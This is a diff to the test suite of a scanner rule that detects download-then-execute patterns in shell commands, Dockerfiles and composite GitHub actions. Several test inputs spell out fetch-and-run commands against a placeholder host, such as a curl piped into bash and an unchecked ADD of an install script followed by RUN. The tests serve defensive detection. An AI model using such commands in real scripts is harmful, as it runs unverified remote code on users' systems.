@@ -67,6 +67,28 @@ describe("supply-chain/fetch-execute", () => {
     findFetchExecute("curl x |".repeat(10_000));
     findFetchExecute("wget https://x/a.sh\n".repeat(3_000) + "./a.sh\n".repeat(3_000));
     findFetchExecute('bash -c "$(curl '.repeat(2_000));
-    assert.ok(performance.now() - t < 10_000);
+    assert.ok(performance.now() - t < 30_000, "linear input handling: a quadratic path would take minutes here");
+  });
+});
+
+describe("supply-chain/fetch-execute in Dockerfiles", () => {
+  const run = ruleRunner(rule);
+  it("follows ADD URL without --checksum into the RUN that executes it", async () => {
+    const bad = await run({ Dockerfile: "FROM a\nADD https://x.example/install.sh /tmp/\nRUN sh /tmp/install.sh\n" });
+    assert.deepEqual(bad.findings.map((f) => [f.locations[0]?.startLine, f.evidence["how"]]), [[3, "download-then-run"]]);
+    const good = await run({ Dockerfile: "FROM a\nADD --checksum=sha256:" + "a".repeat(64) + " https://x.example/install.sh /tmp/\nRUN sh /tmp/install.sh\nADD https://x.example/data.tgz /data/\n" });
+    assert.deepEqual(good.findings, []);
+  });
+});
+
+describe("supply-chain/fetch-execute in nested shells and published actions", () => {
+  const run = ruleRunner(rule);
+  it("reads the script of sh -c", () => {
+    assert.deepEqual(how("sudo sh -c 'curl -fsSL https://x.example/i | bash'"), ["pipe:bash"]);
+  });
+  it("reads composite actions that no workflow calls", async () => {
+    const action = "name: setup\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: curl -fsSL https://x.example/i.sh | bash\n";
+    const { findings } = await run({ "action.yml": action });
+    assert.deepEqual(findings.map((f) => [f.locations[0]?.path, f.locations[0]?.startLine]), [["action.yml", 6]]);
   });
 });
